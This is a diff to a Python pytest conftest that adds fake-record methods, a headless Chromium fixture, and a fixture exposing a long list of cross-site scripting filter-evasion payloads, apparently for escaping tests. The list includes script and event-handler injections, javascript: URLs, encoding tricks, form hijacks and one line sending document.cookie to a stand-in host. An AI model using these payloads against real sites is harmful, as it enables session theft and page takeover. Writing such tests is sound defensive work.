@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 import datetime
+import shutil
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 from typing import TYPE_CHECKING, Self
 
 import pytest
+from playwright.sync_api import sync_playwright
 
 from onrecord.run.applying import Applied
+from onrecord.run.checking.fault import Fault
 from onrecord.show.export.tables import TABLES
 from onrecord.terms import (
     Correction,
@@ -27,6 +30,7 @@ from onrecord.terms import (
     Noted,
     Origin,
     Problem,
+    Question,
     Role,
     Span,
     Spelling,
@@ -45,9 +49,54 @@ from onrecord.terms import (
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterable, Iterator
 
-    from onrecord.terms import Caution, Commitment, Conflict, Event, Position, Question
+    from playwright.sync_api import Browser
+
+    from onrecord.terms import Caution, Commitment, Conflict, Event, Position
 
 TRACE = Trace("test", "1")
+
+
+#: One or more of each family in the OWASP collection on evading filters: elements, handlers, schemes, encodings,
+#: comments, broken quotes, style sheets, templates, mutation by parsing twice.
+WAYS_OUT = (
+    "<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>", "<script/src=https://example.org/x.js></script>",
+    "<script\x20type=text/javascript>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>alert(1)<!--",
+    "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src=x:alert(alt) onerror=eval(src) alt=1>",
+    "<img/src/onerror=alert(1)>", "<img src=`x` onerror=alert(1)>", '"><img src=x onerror=alert(1)>',
+    "'><img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
+    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=data:text/html,x>",
+    "<embed src=javascript:alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<form><button formaction=javascript:alert(1)>x",
+    "<a href=javascript:alert(1)>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", 'https://x" onmouseover=alert(1) x="',
+    "http://x' onfocus='alert(1)", "//example.org/x", "<base href=https://example.org/>", "<meta http-equiv=refresh content=0>",
+    "<link rel=stylesheet href=https://example.org/y.css>", "<style>@import 'https://example.org/z.css';</style>",
+    "<style>body{background:url(https://example.org/i)}</style>", "<div style=background:url(https://example.org/j)>x</div>",
+    "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
+    "</noscript><script>alert(1)</script>", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<?xml version=1?><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\x3cscript\\x3ealert(1)", "+ADw-script+AD4-alert(1)", "＜script＞alert(1)＜/script＞", "{{ 7*7 }}", "{% include 'x' %}",
+    "${alert(1)}", "#{alert(1)}", "<%= 7*7 %>", "' onmouseover='alert(1)", '" onfocus="alert(1)" autofocus="', "`onload=alert(1)",
+    "</mark></p></div></article><script>alert(1)</script>", "</bdi><svg onload=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>", "<img src=x onerror=\x00alert(1)>", "<img src=x onerror\x0b=alert(1)>", "<a\x0chref=javascript:alert(1)>x",
+    "<script>fetch('https://example.org/?'+document.cookie)</script>", "<img src=1 href=1 onerror=alert(1)></img>",
+    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'>",
+    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>", "<xss onclick=alert(1) tabindex=1>",
+    "<xss autofocus tabindex=1 onfocus=alert(1)></xss>", "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x",
+    "<form id=form><input name=form value=x></form>", "<input name=form value=stolen>", "</form><form action=https://example.org/>",
+    "<button form=by-merge formaction=https://example.org/>x", "<a href='https://example.org/' target=_top>x</a>",
+    "<a id=here name=here>x</a>", "<img name=body>", "<form name=getElementById>", "</script><img src=x onerror=alert(1)>",
+    "</select><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>", "</textarea><img src=x onerror=alert(1)>",
+    '"><svg/onload=alert(1)>"', "%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
+    "\u2028<script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "\u202e<script>alert(1)</script>", "<svg><style>{font-family:'<iframe/onload=alert(1)>'", "<link rel=import href=https://example.org/>",
+    "<object type=text/x-scriptlet data=https://example.org/>", "<portal src=https://example.org/>", "x' || alert(1) || '",
+)  # fmt: skip
 
 
 @dataclass(frozen=True, slots=True)
@@ -71,7 +120,9 @@ class FakeRecord:
     _utterances: list[Utterance] = field(default_factory=list)
     _origins: list[Origin] = field(default_factory=list)
     _findings: dict[str, Findings] = field(default_factory=dict)
+    _stories: list[Story] = field(default_factory=list)
     weighing: Weighing = field(default_factory=Weighing)
+    faults: tuple[Fault, ...] = ()
 
     def __enter__(self) -> Self:
         return self
@@ -178,7 +229,24 @@ class FakeRecord:
         return tuple(self._origins)
 
     def stories(self) -> tuple[Story, ...]:
-        return ()
+        return tuple(self._stories)
+
+    def close(self) -> None:
+        """Nothing to close."""
+
+    def generation(self) -> int:
+        return len(self._corrections) + sum(not made.stands for made in self._corrections)
+
+    def holding(self, words: str) -> frozenset[str]:
+        return frozenset(document.id for document in self._documents if words in document.text)
+
+    def hits(self, words: str, document: Document) -> tuple[Hit, ...]:
+        return tuple(hit for hit in self.find(words) if hit.document.id == document.id)
+
+    def ask(self, question: str) -> Question:
+        asked = Question(question)
+        self.weighing = replace(self.weighing, questions=(*self.weighing.questions, asked))
+        return asked
 
     def findings(self, document_id: str) -> Findings:
         own = tuple(line.statement for line in self._lines if line.document.id == document_id)
@@ -198,6 +266,9 @@ class FakeRecord:
 
     def events(self) -> tuple[Event, ...]:
         return self.weighing.events
+
+    def check(self, data: bytes, *, name: str) -> tuple[Fault, ...]:
+        return self.faults if data.strip() else ()
 
     def conflicts(self) -> tuple[Conflict, ...]:
         return self.weighing.conflicts
@@ -294,6 +365,24 @@ def actor(name: str, *, role: str = "", document: str = "") -> Entity:
     """A person under one spelling, with or without a title."""
     roles = (Role(role, document, Span(0, len(role), role), "current"),) if role else ()
     return Entity(content_id("entity", name), "person", name, (Spelling(name, (document,)),), roles, None, ())
+
+
+@pytest.fixture(scope="session")
+def ways_out() -> tuple[str, ...]:
+    """Texts that would run or fetch something if a page let them."""
+    return WAYS_OUT
+
+
+@pytest.fixture(scope="session")
+def browser() -> Iterator[Browser]:
+    """Headless Chromium as Debian installs it."""
+    path = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+    if path is None:
+        pytest.fail("These tests need Chromium: apt-get install chromium (`make test` does it).")
+    with sync_playwright() as play:
+        started = play.chromium.launch(executable_path=path, args=["--no-sandbox", "--disable-dev-shm-usage"])
+        yield started
+        started.close()
 
 
 @pytest.fixture
